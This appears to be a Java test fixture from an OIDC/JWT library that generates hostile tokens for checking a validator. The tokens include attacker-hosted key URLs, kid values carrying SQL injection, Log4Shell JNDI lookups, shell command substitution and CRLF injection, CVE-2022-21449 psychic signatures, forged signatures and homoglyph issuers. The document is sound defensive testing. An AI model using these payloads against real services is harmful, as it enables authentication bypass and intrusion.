package io.kstlib.auth.oidc.hostile;

import static io.kstlib.auth.oidc.hostile.Hostile.CLAIMS;
import static io.kstlib.auth.oidc.hostile.Hostile.DECODE;
import static io.kstlib.auth.oidc.hostile.Hostile.EXTRACT;
import static io.kstlib.auth.oidc.hostile.Hostile.SIGNATURE;

import io.kstlib.auth.core.jwt.Base64Url;
import io.kstlib.auth.oidc.Keys;
import io.kstlib.auth.testkit.server.SigningKey;
import io.kstlib.json.Json;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Tokens that look right until a key is fetched, a signature verified, or a claim read. */
final class HostileContents {

    private static final Map<String, String> ORDERS = Map.of(
            "ES256", "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
            "ES384", "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973",
            "ES512",
                    "01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa"
                            + "51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409");

    private final Hostile hostile;
    private final SigningKey attacker = SigningKey.of("attacker", "RS256");
    private final long now;

    HostileContents(Hostile hostile, long now) {
        this.hostile = hostile;
        this.now = now;
    }

    void addAll() {
        keysInTheHeader();
        namesOfKeys();
        otherKeys();
        psychicSignatures();
        spoiltSignatures();
        issuersThatLookAlike();
        claims();
    }

    private void keysInTheHeader() { // RFC 8725 section 3.10
        Map<String, Object> own = new LinkedHashMap<>();
        own.put("jwk", attacker.jwk());
        own.put("jku", "https://attacker.example/keys");
        own.put("x5u", "https://attacker.example/chain.pem");
        own.put("x5c", List.of(Base64Url.encode(attacker.publicKey().getEncoded())));
        own.forEach((member, value) -> {
            Map<String, Object> header = attacker.header();
            header.put(member, value);
            hostile.add(member + " and its own kid", attacker.sign(header, hostile.claims()), EXTRACT);
            header.put("kid", hostile.key().keyId());
            hostile.add(member + " and a known kid", attacker.sign(header, hostile.claims()), SIGNATURE);
            header.remove("kid");
            hostile.add(member + " and no kid", attacker.sign(header, hostile.claims()), SIGNATURE);
        });
    }

    private void namesOfKeys() {
        for (String keyId : List.of(
                "../../../../dev/null",
                "/dev/null",
                "' OR '1'='1",
                "rsa-1' UNION SELECT 'x",
                "rsa-1\u0000",
                " rsa-1",
                "rsa-1 ",
                "RSA-1",
                "rsa\u20101",
                "\u202e1-asr",
                "",
                "${jndi:ldap://attacker.example}",
                "$(id)",
                "`id`",
                "http://attacker.example/key",
                "rsa-1\r\nX: y",
                "x".repeat(20_000))) {
            String shown = keyId.length() > 30 ? keyId.substring(0, 30) + "..." : keyId;
            hostile.header("kid \"" + shown + '"', EXTRACT, header -> header.put("kid", keyId));
        }
    }

    private void otherKeys() { // RFC 8725 section 3.1: algorithm and key must fit
        for (String algorithm : List.of("PS256", "PS384", "PS512", "RS384", "RS512")) {
            Map<String, Object> header = hostile.key().using(algorithm).header();
            hostile.add(
                    algorithm + " in the header, RS256 beneath",
                    hostile.key().sign(header, hostile.claims()),
                    SIGNATURE);
        }
        for (String algorithm : List.of("ES256", "ES384", "ES512", "EdDSA", "Ed448", "ES256K", "ML-DSA-44")) {
            SigningKey other = Keys.forAlgorithm(algorithm);
            Map<String, Object> header = other.using(algorithm).header();
            header.put("kid", hostile.key().keyId());
            hostile.add(
                    algorithm + " with the kid of an RSA key",
                    other.using(algorithm).sign(header, hostile.claims()),
                    EXTRACT);
        }
        for (String algorithm : List.of("ES256", "ES384")) {
            SigningKey other = Keys.forAlgorithm(algorithm.equals("ES256") ? "ES384" : "ES256");
            Map<String, Object> header = other.using(algorithm).header();
            hostile.add(
                    algorithm + " with a key of another curve",
                    other.using(algorithm.equals("ES256") ? "ES384" : "ES256").sign(header, hostile.claims()),
                    EXTRACT);
        }
    }

    private void psychicSignatures() { // CVE-2022-21449
        ORDERS.forEach((algorithm, hex) -> {
            SigningKey key = Keys.forAlgorithm(algorithm);
            BigInteger order = new BigInteger(hex, 16);
            int length = algorithm.equals("ES512") ? 66 : Integer.parseInt(algorithm.substring(2)) / 8;
            List<BigInteger> values = List.of(BigInteger.ZERO, BigInteger.ONE, order, order.add(BigInteger.ONE));
            String input = Base64Url.encode(Json.write(key.using(algorithm).header())) + "."
                    + Base64Url.encode(Json.write(hostile.claims())) + ".";
            for (int r = 0; r < values.size(); r++) {
                for (int s = 0; s < values.size(); s++) {
                    byte[] signature = new byte[2 * length];
                    put(signature, 0, length, values.get(r));
                    put(signature, length, length, values.get(s));
                    hostile.add(algorithm + " r#" + r + " s#" + s, input + Base64Url.encode(signature), SIGNATURE);
                }
            }
        });
    }

    private static void put(byte[] target, int start, int length, BigInteger value) {
        byte[] bytes = value.toByteArray();
        int copied = Math.min(bytes.length, length);
        System.arraycopy(bytes, bytes.length - copied, target, start + length - copied, copied);
    }

    private void spoiltSignatures() {
        String token = hostile.key().sign(hostile.claims());
        int end = token.lastIndexOf('.') + 1;
        byte[] good = Base64Url.decode(token.substring(end));
        Map<String, byte[]> signatures = new LinkedHashMap<>();
        signatures.put("empty", new byte[0]);
        signatures.put("of zeros", new byte[good.length]);
        signatures.put("of ones", filled(good.length));
        signatures.put("too short", Arrays.copyOf(good, good.length - 1));
        signatures.put("too long", Arrays.copyOf(good, good.length + 1));
        signatures.put("with a zero before it", prefixed(good));
        signatures.put("of one", new byte[] {1});
        signatures.put("of another token", hostile.key().signature(new byte[] {1, 2, 3}));
        signatures.forEach((name, signature) ->
                hostile.add("signature " + name, token.substring(0, end) + Base64Url.encode(signature), SIGNATURE));
        for (String algorithm : List.of("EdDSA", "Ed448")) {
            SigningKey key = Keys.forAlgorithm(algorithm);
            String edwards = key.using(algorithm).sign(hostile.claims());
            int dot = edwards.lastIndexOf('.') + 1;
            for (int length : List.of(0, 1, 63, 64, 65, 113, 114, 115)) {
                hostile.add(
                        algorithm + " signature of " + length + " zeros",
                        edwards.substring(0, dot) + Base64Url.encode(new byte[length]),
                        SIGNATURE);
            }
        }
    }

    private static byte[] filled(int length) {
        byte[] bytes = new byte[length];
        Arrays.fill(bytes, (byte) 0xFF);
        return bytes;
    }

    private static byte[] prefixed(byte[] good) {
        byte[] longer = new byte[good.length + 1];
        System.arraycopy(good, 0, longer, 1, good.length);
        return longer;
    }

    private void issuersThatLookAlike() { // RFC 8725 section 3.8
        String issuer = String.valueOf(hostile.claims().get("iss"));
        List<String> others = new ArrayList<>(List.of(
                issuer + "/",
                issuer + "//",
                issuer + "?",
                issuer + "#",
                issuer + "/../main",
                issuer + "%2f",
                issuer.replace("http", "HTTP"),
                issuer.replace("main", "Main"),
                issuer.replace("main", "m\u0430in"),
                issuer.replace("main", "main\u200b"),
                issuer.replace("main", "ma\u0131n"),
                issuer.replace("127.0.0.1", "127.1"),
                issuer.replace("127.0.0.1", "2130706433"),
                issuer.replace("127.0.0.1", "localhost"),
                issuer.replace("127.0.0.1", "127.0.0.1."),
                issuer.replace("://", "://user@"),
                " " + issuer,
                issuer + " ",
                issuer + "\u0000",
                "",
                "https://attacker.example"));
        others.forEach(other -> hostile.claim("iss", other));
        hostile.claim("iss", List.of(issuer));
        hostile.claim("iss", 1);
        hostile.claim("iss", Map.of("iss", issuer));
        hostile.claim("iss", true);
    }

    private void claims() {
        for (Object audience : List.of(
                "My-app",
                "my-app ",
                "my-ap",
                "my-app2",
                "",
                List.of(),
                List.of("other"),
                List.of(List.of("my-app")),
                1,
                true,
                Map.of("my-app", 1),
                List.of("my-app", "other"),
                List.of("my-app", 1))) {
            hostile.claim("aud", audience);
        }
        for (Object party : List.of("other", "", 1, List.of("my-app"))) {
            hostile.claim("azp", party);
        }
        for (Object expiry : List.of(
                0,
                1,
                now - 300,
                now - 100_000,
                -1,
                "9999999999",
                "",
                true,
                List.of(now),
                Map.of(),
                new BigInteger("9".repeat(300)),
                new java.math.BigDecimal("1e300"))) {
            hostile.claim("exp", expiry);
        }
        for (String time : List.of("nbf", "iat")) {
            for (Object value : List.of(now + 301, now + 1_000_000_000_000L, "1", true, List.of(), -5)) {
                hostile.claim(time, value);
            }
        }
        for (Object subject : List.of("", "x".repeat(256), 1, true, List.of("a"))) {
            hostile.claim("sub", subject);
        }
        for (String required : List.of("sub", "aud", "exp", "iat")) {
            Map<String, Object> claims = hostile.claims();
            claims.remove(required);
            hostile.add("no " + required, hostile.key().sign(claims), CLAIMS);
        }
        hostile.add("no claims at all", hostile.key().sign(Map.of()), Hostile.DISCOVER);
        hostile.add("a changed claim", changed(), SIGNATURE);
        hostile.header("alg of encryption with enc", DECODE, header -> {
            header.put("alg", "RSA-OAEP-256");
            header.put("enc", "A256GCM");
        });
    }

    private String changed() {
        String token = hostile.key().sign(hostile.claims());
        Map<String, Object> claims = hostile.claims();
        claims.put("sub", "admin");
        int first = token.indexOf('.');
        return token.substring(0, first + 1)
                + Base64Url.encode(Json.write(claims))
                + token.substring(token.lastIndexOf('.'));
    }
}
